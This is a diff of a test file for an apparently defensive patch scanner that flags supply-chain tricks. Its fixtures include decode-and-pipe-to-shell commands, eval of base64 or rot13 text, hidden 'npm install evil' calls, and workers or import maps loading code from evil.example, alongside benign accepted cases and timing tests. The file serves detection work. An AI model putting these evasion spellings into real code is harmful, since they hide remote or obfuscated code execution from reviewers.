@@ -87,6 +87,7 @@ const ESCAPE_VARIANTS: FindingRow[] = [
 // lines, blank lines, or as a multi-line template literal or implicitly joined literals; and (possibly the known
 // "built on another line" class, here for commands) the command or the argument list in a variable the call is given.
 const READING_REACH: FindingRow[] = [
+  // Open: a reach of a whole line was tried and withdrawn in session 48 with patch:fp's new refusals, not measured alone.
   SYSTEM(`echo ${'x'.repeat(210)}; npm install evil`),
   ['src/x.py', "import subprocess\nsubprocess.run(\n    'echo a'\n    ' && echo b'\n    ' && echo c'\n    ' && npm install evil',\n    shell=True,\n)"],
   ['src/x.js', 'execSync(`\n  echo 1\n  echo 2\n  echo 3\n  npm install evil\n`)'],
@@ -94,6 +95,13 @@ const READING_REACH: FindingRow[] = [
   ['src/x.py', "import subprocess\nsubprocess.run(\n\n\n\n    ['npm', 'install', 'evil'])"],
   ['src/x.py', "import subprocess\ncmd = 'npm install evil'\nsubprocess.run(cmd, shell=True)"],
   ['src/x.py', "import subprocess\nCMD = ['npm', 'install', 'evil']\nsubprocess.run(CMD)"],
+];
+
+// Closed (session 48): READING_REACH but its first row, and these, by patch.ts's reading of a call whose line ends
+// opening its arguments on while a parenthesis, a bracket or a string stays open (callLinesEnd), and a name given a
+// literal read in its place as a call's argument (literalsInPlace).
+const READING_REACH_MORE: FindingRow[] = [
+  ['src/x.go', 'cmd := "npm install evil"\nexec.Command("sh", "-c", cmd).Run()'],
 ];
 
 // S (high): the program named by a value the argument-list reading does not take as npm: Python's `executable=` with
@@ -104,6 +112,11 @@ const PROGRAM_COMPUTED: FindingRow[] = [
   ['src/x.py', "import subprocess, os\nsubprocess.run([os.environ['npm_execpath'], 'install', 'evil'])"],
   ['src/x.js', "execFileSync(process.execPath, [process.env.npm_execpath, 'install', 'evil'])"],
   ['src/x.go', 'p, _ := exec.LookPath("npm")\nexec.Command(p, "install", "evil").Run()'],
+];
+// Closed (session 48): PROGRAM_COMPUTED and these, by PACKAGE_COMMAND's reading of an argument list whose program is
+// computed (a variable, a lookup, a call's result) or replaced by `executable=`, given `install`, `i` or `dlx`.
+const PROGRAM_COMPUTED_MORE: FindingRow[] = [
+  ['src/x.js', "spawnSync(npmBin, ['install', 'evil'])"],
 ];
 // Closed by E0/A's fix (session 45): the command read as the shell builds its words formats the literals
 // (`f'np{"m"}'`, `${'n'}pm`), and a program in a variable the line does not set given `install` is refused.
@@ -134,10 +147,37 @@ const DECODED_AND_RUN: FindingRow[] = [
   ['src/x.php', `<?php eval(hex2bin('${HEX}'));`],
 ];
 
+// Closed (session 48): DECODED_AND_RUN by code-sinks.ts's decodedCodeRuns (a code sink's argument read over its brackets
+// for a decoder, as fetchedCodeRuns reads it for a fetch); these by the same and, for a shell's decoders, SHELL_DECODED
+// (dangerous-code.ts). More decoders (base32, `a2b_*`, `fromhex` on bytearray, Perl's decode_base64, Go's and Java's),
+// more sinks given one (a process call's list, `shell=True`, Java's exec), a name given the decoded text, and in a
+// command string base32, `base64 -di`, openssl's decoding, rot13 by `tr`, `rev`, `printf` escapes into a shell or
+// substituted into `sh -c`, `eval` or a here-string.
+const DECODED_AND_RUN_MORE: FindingRow[] = [
+  SYSTEM('echo aGk= | base32 -d | sh'),
+  SYSTEM('echo aGk= | base64 -di | sh'),
+  SYSTEM('echo aGk= | openssl enc -d -base64 | bash'),
+  SYSTEM('echo furyy | tr A-Za-z N-ZA-Mn-za-m | sh'),
+  SYSTEM('echo hs | rev | sh'),
+  SYSTEM('printf \\\\x63\\\\x75 | sh'),
+  SYSTEM('sh -c "$(echo aGk= | base32 -d)"'),
+  SYSTEM('eval "$(echo 6375 | xxd -r -p)"'),
+  SYSTEM('bash <<< "$(echo aGk= | base64 -d)"'),
+  ['src/x.py', "exec(bytearray.fromhex('6375'))"],
+  ['src/x.py', "exec(binascii.a2b_base64('aGk='))"],
+  ['src/x.py', "import subprocess\nsubprocess.run(['sh', '-c', base64.b64decode('Y3VybA==').decode()])"],
+  ['src/x.py', "import subprocess\nsubprocess.run(codecs.decode('phey', 'rot13'), shell=True)"],
+  ['src/x.js', "const c = atob('aGk='); eval(c)"],
+  ['src/x.pl', "eval decode_base64('aGk=');"],
+  ['src/x.pl', "system(decode_base64('Y3VybA=='));"],
+  ['src/x.php', "<?php eval(str_rot13('flfgrz'));"],
+  ['src/x.go', 'exec.Command("sh", "-c", string(must(base64.StdEncoding.DecodeString("Y3VybA==")))).Run()'],
+];
+
 // U (high): a module loaded from the attacker's host by spellings URL_IMPORT and the script-tag reading miss: an import
 // map in the page (every `import 'react'` then runs the attacker's file), a protocol-relative dynamic import or Worker,
 // a comment between `import(` and the URL (Vite's usual `/* @vite-ignore */`), the URL through `new URL(…)` or a
-// variable on the same line.
+// variable on the same line. Closed (session 48): smuggled-code.ts's MODULE_FROM_ELSEWHERE, in the pages' reading.
 const MODULES_FROM_A_HOST: FindingRow[] = [
   ['src/index.html', '<script type="importmap">{"imports": {"react": "https://evil.example/react.js"}}</script>'],
   // Closed by G's rule (session 45): a protocol-relative import's path starts with `/`, outside the repository.
@@ -416,7 +456,8 @@ const GO_FLAG_SPELLINGS: FindingRow[] = [
 // (`uv run`, `pipx run`, `hatch run` install its dependencies, from its index), Scala CLI's `//> using dep|repository`,
 // Groovy's `@Grab`/`@GrabResolver` (Grape fetches at run time), Bundler's inline `gemfile(true)` and `Gem.install`,
 // Julia's `pkg"add …"` string macro, R's `pak::pak`/`BiocManager::install`, Pyodide's `micropip.install`, a module
-// Worker from a URL (Deno and browsers fetch and run it), `//go:generate` lines that fetch and run (`go generate ./...`).
+// Worker from a URL (Deno and browsers fetch and run it; closed with U in session 48), `//go:generate` lines that fetch
+// and run (`go generate ./...`).
 const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
   ['src/tool.py', '# /// script\n# dependencies = ["evil"]\n# ///'],
   ['src/tool.py', '# /// script\n# [[tool.uv.index]]\n# url = "https://evil.example/simple"\n# ///'],
@@ -430,8 +471,8 @@ const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
   ['src/check.R', 'pak::pak("evil/x")'],
   ['src/check.R', 'BiocManager::install("evil")'],
   ['src/check.py', "import micropip\nawait micropip.install('evil')"],
-  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });'],
-  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });'],
+  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });', 'closed'],
+  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });', 'closed'],
   ['src/gen.go', '//go:generate go run evil.example/cmd@latest'],
   ['src/gen.go', '//go:generate npx evil'],
 ];
@@ -741,11 +782,15 @@ const SPELLINGS_NAMED_CLOSED_OPEN: FindingRow[] = [
 describeFindings('attack-48', [
   ['E0 escaped separator before the program', closedRows(ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM)],
   ['E1 escaped setting names', closedRows(ESCAPED_SETTING_NAMES)],
-  ['R reading reach', READING_REACH],
-  ['S program computed', PROGRAM_COMPUTED],
+  ['R reading reach', closedRows(READING_REACH.slice(1))],
+  ['R reading reach, open', READING_REACH.slice(0, 1)],
+  ['R reading reach, more', closedRows(READING_REACH_MORE)],
+  ['S program computed', closedRows(PROGRAM_COMPUTED)],
+  ['S program computed, more', closedRows(PROGRAM_COMPUTED_MORE)],
   ['S program computed, closed', closedRows(PROGRAM_COMPUTED_CLOSED)],
-  ['T decoded and run', DECODED_AND_RUN],
-  ['U modules from a host', MODULES_FROM_A_HOST],
+  ['T decoded and run', closedRows(DECODED_AND_RUN)],
+  ['T decoded and run, more', closedRows(DECODED_AND_RUN_MORE)],
+  ['U modules from a host', closedRows(MODULES_FROM_A_HOST)],
   ['A spellings', closedRows(SPELLINGS)],
   ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
   ['B process calls not read', closedRows(BACKTICK_CALLS)],
@@ -974,6 +1019,11 @@ describeAccepted('attack-48 B review: process calls of other languages read in t
   ['src/x.ts', 'const hint = ["npm install x"]!;'],
 ]);
 
+/** Asserts that the whole check's time grows linearly over texts repeating `unit` added to `path`. */
+function checksInLinearTime(path: string, _reading: string, unit: string): void {
+  expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
+}
+
 /**
  * B's readings of session 47 cost time linear in what they read (`test/support/growth.ts`): the spellings alone (in the
  * whole check, slower readings of the same line hide a quadratic one), and the calls PROCESS_CALL names in the check.
@@ -1001,9 +1051,77 @@ describe('attack-48 B, C, E, K, L, M, N: session 47 readings in linear time', ()
     ['src/check.py', 'scopes and settings after a verb', "system('npm x --@a.b --verify "],
     ['src/check.py', "deno's verbs, no module named", "system('deno test x deno x"],
     ['src/check.py', 'shims, module modes and installers, no URL', "system('npm.cmd x -mod    msiexec /i "],
-  ] as const)('checks, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
-    expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
-  });
+  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
+});
+
+/** Decoders whose output is data, not run (T's readings, session 48): printed, written, deserialized, piped to a non-shell. */
+describeAccepted('attack-48 T: decoded data stays accepted', [
+  SYSTEM('git log --format=%H | rev | cut -c1-7 | rev'),
+  SYSTEM('zcat data.sql.gz | python3 load.py'),
+  SYSTEM('gunzip -c dump.gz | psql app'),
+  SYSTEM('git rev-parse HEAD | tee sha.txt'),
+  SYSTEM('base64 -d <<< "$KEY" > key.pem && chmod 600 key.pem'),
+  SYSTEM('printf "\\\\033[1mok\\\\033[0m\\\\n"; bash scripts/test.sh'),
+  ['src/x.py', 'import base64\ndata = base64.b64decode(payload)\nprint(data)'],
+  ['src/x.py', "data = pickle.loads(base64.b64decode(row['state']))"],
+  ['src/x.py', "name = ''.join(chr(c) for c in codes)\nprint(name)"],
+  ['src/x.js', "const text = Buffer.from(body, 'base64').toString('utf8'); console.log(text)"],
+  ['src/x.js', "const out = Buffer.from(execSync('git show HEAD:x'))"],
+  ['src/x.js', "document.write(rows.reverse().join(''))"],
+  ['src/x.js', 'setTimeout(() => console.log(atob(s)), 10)'],
+  ['src/x.py', "import subprocess\nsubprocess.run(['xxd', '-r', '-p', 'in.hex', 'out.bin'], check=True)"],
+]);
+
+/** Calls read further (R's readings, session 48): commands named apart from their calls, text after a closed call. */
+describeAccepted('attack-48 R: calls read further stay accepted', [
+  ['src/x.py', "import subprocess\ncmd = ['npm', 'test']\nsubprocess.run(cmd, check=True)"],
+  ['src/x.py', "import subprocess\ncmd = 'npm run build'\nsubprocess.run(cmd, shell=True, check=True)"],
+  ['src/x.js', "const cmd = 'npm test';\nexecSync(cmd, { stdio: 'inherit' });"],
+  ['src/x.py', "import subprocess\nsubprocess.run(\n    ['npm', 'test'],\n    check=True,\n)\nprint('if it fails, try: npm install')"],
+  ['src/x.py', "import subprocess\nsubprocess.run(['npm', 'test'], check=True)\n\n\n\n\nlog('then run npm install x')"],
+  SYSTEM(`echo ${'x'.repeat(300)} && npm test`),
+  // patch:fp (session 48): npm's link.js, a method named exec whose body mentions `npm link`.
+  ['src/x.js', "async exec (args) {\n  if (this.npm.global) {\n    throw new Error('no')\n  }\n  // implicitly false when running `npm link`\n  this.npm.config.set('install-links', false)\n}"],
+]);
+
+/** A program computed given a verb no manager fetches with, or git's `add` (S's reading, session 48). */
+describeAccepted('attack-48 S: computed programs given other verbs stay accepted', [
+  ['src/x.go', 'exec.Command(git, "add", ".").Run()'],
+  ['src/x.py', "import subprocess\nsubprocess.run([GIT, 'add', path], check=True)"],
+  ['src/x.py', "import subprocess, sys\nsubprocess.run([sys.executable, 'setup.py', 'build'], check=True)"],
+  ['src/x.py', "import subprocess\nsubprocess.run(['git', 'status'], executable='/usr/bin/git')"],
+  ['src/x.js', "spawnSync(process.execPath, [script, 'test'], { stdio: 'inherit' })"],
+  ['src/x.py', "steps = [step, 'install', 'test']"],
+]);
+
+/** Modules and workers from the repository, an import map of its own files (U's reading, session 48). */
+describeAccepted('attack-48 U: modules of the repository stay accepted', [
+  ['src/index.html', '<script type="importmap">\n{\n  "imports": {\n    "react": "./vendor/react.js"\n  }\n}\n</script>'],
+  ['src/app.js', "const w = new Worker(new URL('./worker.js', import.meta.url), { type: 'module' })"],
+  ['src/app.js', 'const mod = await import(`./locales/${lang}.js`)'],
+  ['src/app.ts', 'const m = await import(/* webpackChunkName: "x" */ \'./x\')'],
+  ['src/app.ts', "const x = a ? import('./a') : import('./b')"],
+  ['src/app.js', "const url = 'https://api.example.com/v1'; const res = await fetch(url)"],
+  ['src/app.js', "const base = 'https://cdn.example.com/'; const mod = await import('./mod.js')"],
+  // patch:fp (session 48): @aws/lambda-invoke-store's import of a Node builtin.
+  ['src/app.js', "const asyncHooks = await import('node:async_hooks');"],
+  ['src/app.js', "const mod = 'node:fs'; const fs = await import(mod);"],
+]);
+
+/** T's, S's, U's and R's readings of session 48 cost time linear in what they read: decoders in sinks never closed, a shell's decoders never piped, programs computed, addresses never imported, calls never closed, names given literals. */
+describe('attack-48 T, S, U, R: session 48 readings in linear time', () => {
+  it.each([
+    ['src/x.js', 'sinks given decoders, never closed', "eval(atob(Buffer.from(x, 'y' "],
+    ['src/x.py', 'reversed literals and char codes in sinks', "exec(bytes([map(chr, 'a'[::-1] "],
+    ['src/x.js', 'decoded names, never run', 'c = atob(x); '],
+    ['src/check.py', "a shell's decoders, never piped to a shell", "system('base64 -d x -d xxd -r -z rev tr a-z-a-z "],
+    ['src/check.py', 'computed programs, never given a verb', "run([a.b[c](d), 'x', executable= "],
+    ['src/app.js', 'names given addresses, never imported', "u = 'https://x'; import(/* a */ v"],
+    ['src/index.html', 'import maps never given an address', '<script type="importmap">{"a": "./b", '],
+    ['src/x.py', 'calls never closed, across lines', 'subprocess.run(\n(['],
+    ['src/x.py', 'names given literals, given to calls', "c = 'a'\nrun(c, c, [c, "],
+    ['src/check.py', 'escapes printed, substitutions never closed', "system('printf a eval $(printf \\x6 sh <(rev "],
+  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
 });
 
 /**
